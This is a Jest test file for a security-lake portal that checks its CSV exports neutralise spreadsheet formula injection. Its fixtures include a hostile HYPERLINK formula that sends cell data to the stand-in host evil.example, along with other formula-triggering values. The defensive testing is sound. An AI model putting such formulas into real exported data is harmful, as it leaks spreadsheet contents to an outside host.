import { AthenaClient } from '@aws-sdk/client-athena';
import { S3Client } from '@aws-sdk/client-s3';
import { securityLakeTableRef } from '@internal/plugin-security-lake-common';
import { LogSourceRecord } from '@internal/plugin-security-lake-node';
import { mockClient } from 'aws-sdk-client-mock';
import request from 'supertest';
import { athenaOverMocks } from '../__testUtils__/athena';
import { FakeLake } from '../__testUtils__/fakeLake';
import { accountEntity, as } from '../__testUtils__/portal';
import { startPortal } from '../__testUtils__/startPortal';

jest.setTimeout(60_000);

const API = '/api/security-lake';

/** What a spreadsheet would run, and what it would take for a formula although it is text. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTabbed',
  '\rReturned',
];

// team-payments' accounts, each titled (in the catalog, which anyone may write to) with a hostile cell
const ACCOUNTS = HOSTILE.map((title, i) => {
  const accountId = String(i + 1).repeat(12);
  const entity = accountEntity(
    `payments-${i + 1}`,
    accountId,
    'group:default/team-payments',
  );
  entity.metadata.title = title;
  return { accountId, entity };
});
const FIRST = ACCOUNTS[0].accountId;

const LAKE: FakeLake = {
  logSources: ACCOUNTS.map(
    ({ accountId }) =>
      ({
        accountId,
        region: 'us-east-1',
        source: 'CLOUD_TRAIL_MGMT',
        version: '2.0',
      } as LogSourceRecord),
  ),
  // exception texts come from AWS, naming the account they concern
  exceptions: [
    { region: 'us-east-1', exception: `-2+3 failed for ${FIRST}` },
    { region: 'us-east-1', exception: `@SUM(1) in ${FIRST}` },
  ],
  lastEventHoursAgo: {
    [securityLakeTableRef('us-east-1', 'CLOUD_TRAIL_MGMT', '2.0')]:
      Object.fromEntries(ACCOUNTS.map(({ accountId }) => [accountId, 1])),
  },
};

/** Athena's result object: a header row, every field quoted, NULL an empty unquoted field. */
const quote = (cell: string | null) =>
  cell === null ? '' : `"${cell.replace(/"/g, '""')}"`;
const RESULT_ROWS: (string | null)[][] = [
  ['cell', 'n', 'note'],
  ...HOSTILE.map(cell => [cell, '-5', 'plain, with a comma']),
  ['=1', '5', null],
  ['a-b', '', 'O"Brien'],
];
const RESULT_CSV = RESULT_ROWS.map(r => r.map(quote).join(',')).join('\n');

describe('CSV exports', () => {
  const athena = athenaOverMocks({
    athena: mockClient(AthenaClient),
    s3: mockClient(S3Client),
    lake: LAKE,
    // S3 sends the object in small pieces: records, quotes and line breaks cut across them
    csv: () => RESULT_CSV.match(/[^]{1,7}/g)!.concat('\n'),
  });
  let portal: Awaited<ReturnType<typeof startPortal>>;

  beforeAll(async () => {
    portal = await startPortal({
      engine: athena.engine,
      lake: LAKE,
      entities: ACCOUNTS.map(a => a.entity),
      securityLake: { queries: { pollIntervalMs: 5 } },
    });
  });
  afterAll(async () => portal?.stop());

  it("writes a run's results.csv with every formula cell quoted off, still streamed from S3", async () => {
    const started = await request(portal.server)
      .post(`${API}/runs`)
      .set(as('alice'))
      .send({
        queryId: 'cloudtrail-iam-changes',
        accountIds: [FIRST],
        parameters: { region: 'us-east-1' },
      });
    expect(started.status).toBe(202);
    const done = await request(portal.server)
      .get(`${API}/runs/${started.body.id}?waitSeconds=10`)
      .set(as('alice'));
    expect(done.body.state).toBe('SUCCEEDED');

    for (const encoding of ['gzip', 'identity']) {
      const csv = await request(portal.server)
        .get(`${API}/runs/${started.body.id}/results.csv`)
        .set(as('alice'))
        .set('Accept-Encoding', encoding);
      expect(csv.status).toBe(200);
      expect(csv.headers['content-type']).toMatch(/^text\/csv/);
      expect(csv.headers['content-encoding']).toBe(
        encoding === 'gzip' ? 'gzip' : undefined,
      );
      expect(csv.text.split('\n')).toEqual([
        '"cell","n","note"',
        `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")","'-5","plain, with a comma"`,
        `"'+1","'-5","plain, with a comma"`,
        `"'-2+3","'-5","plain, with a comma"`,
        `"'@SUM(A1:A9)","'-5","plain, with a comma"`,
        `"'\tTabbed","'-5","plain, with a comma"`,
        `"'\rReturned","'-5","plain, with a comma"`,
        // NULL stays NULL, an empty string empty, text with a - inside as it was
        `"'=1","5",`,
        `"a-b","","O""Brien"`,
        '',
      ]);
    }
  });

  it('writes coverage.csv with every formula cell quoted off: titles from the catalog, exceptions from AWS', async () => {
    const csv = await request(portal.server)
      .get(`${API}/coverage.csv`)
      .set(as('alice'));
    expect(csv.status).toBe(200);
    const lines = csv.text.trimEnd().split('\n');
    expect(lines[0]).toBe(
      'account_id,account,owners,region,source,version,health,status,last_event_at,events_in_window,exceptions',
    );
    // one row per account, each account cell its title with a quote before it (quoted where CSV needs it)
    const accounts = lines.slice(1).map(line => line.split(',')[1]);
    expect(accounts).toEqual([
      `"'=HYPERLINK(""http://evil.example/?d=""&A1`,
      `'+1`,
      `'-2+3`,
      `'@SUM(A1:A9)`,
      `'\tTabbed`,
      `"'\rReturned"`,
    ]);
    expect(lines[1]).toMatch(
      /,'-2\+3 failed for 111111111111 \| @SUM\(1\) in 111111111111$/,
    );
    // nothing else was touched: numbers that start no formula, ids, dates
    expect(lines[2]).toMatch(
      /^222222222222,'\+1,group:default\/team-payments,us-east-1,CLOUD_TRAIL_MGMT,2\.0,healthy,COLLECTING,\d{4}-\d\d-\d\dT[\d:.]+Z,140,$/,
    );
  });
});
